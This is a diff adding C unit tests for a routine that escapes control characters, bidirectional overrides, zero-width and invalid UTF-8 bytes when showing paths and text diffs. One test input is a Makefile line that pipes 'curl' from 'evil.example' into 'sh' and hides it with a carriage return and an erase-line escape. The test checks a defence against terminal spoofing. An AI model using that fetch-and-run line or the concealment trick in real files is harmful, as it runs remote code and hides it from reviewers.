@@ -134,8 +134,18 @@ static void test_path_show(void **state)
 
 	(void)state;
 	p = written(show, "/work/a\nb\tc\\d\001\177é");
-	assert_string_equal(p, "/work/a\\nb\\tc\\\\d\\001\\177é");
+	assert_string_equal(p, "/work/a\\nb\\tc\\\\d\\001\\177\\303\\251");
 	free(p);
+	/* U+202E (right-to-left override), a C1 CSI, invalid UTF-8, U+200B (zero width). */
+	p = written(show, "/work/x\u202Etxt.exe\x9b"
+			  "2Jy\xff\xc3z\u200B");
+	assert_string_equal(p, "/work/x\\342\\200\\256txt.exe\\2332Jy\\377\\303z\\342\\200\\213");
+	free(p);
+	assert_string_equal(path_shown("a\033[2Kb\\"), "a\\033[2Kb\\\\");
+	assert_int_equal(text_plain("a\tb ~", 5, 1), 1);
+	assert_int_equal(text_plain("a\tb", 3, 0), 0);
+	assert_int_equal(text_plain("a\177", 2, 1), 0);
+	assert_int_equal(text_plain("\xc2\xa0", 2, 1), 0);
 }
 
 struct two {
@@ -173,6 +183,19 @@ static void test_textdiff(void **state)
 	/* Two hunks: the changes are more than twice the context apart. */
 	expect_diff("1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n", "x\n2\n3\n4\n5\n6\n7\n8\n9\ny\n",
 		    "@@ -1,4 +1,4 @@\n-1\n+x\n 2\n 3\n 4\n@@ -7,4 +7,4 @@\n 7\n 8\n 9\n-10\n+y\n");
+	/*
+	 * A CR and an erase-line sequence would redraw the terminal's line over
+	 * the command: escaped, the line marked; a TAB stays; a clean line with
+	 * a backslash is as it is.
+	 */
+	expect_diff(
+	    "all:\n",
+	    "all:\n\tcurl -s http://evil.example/x | sh #\r\033[2K+\t@echo building\n\tx\\y\n",
+	    "@@ -1 +1,3 @@\n all:\n"
+	    "!+\tcurl -s http://evil.example/x | sh #\\015\\033[2K+\t@echo building\n"
+	    "+\tx\\y\n");
+	expect_diff("a\n", "\xe2\x80\xae\\b",
+		    "@@ -1 +1 @@\n-a\n!+\\342\\200\\256\\\\b\n\\ No newline at end of file\n");
 	/* One hunk when they are closer. */
 	expect_diff("1\n2\n3\n4\n5\n6\n7\n", "x\n2\n3\n4\n5\n6\ny\n",
 		    "@@ -1,7 +1,7 @@\n-1\n+x\n 2\n 3\n 4\n 5\n 6\n-7\n+y\n");
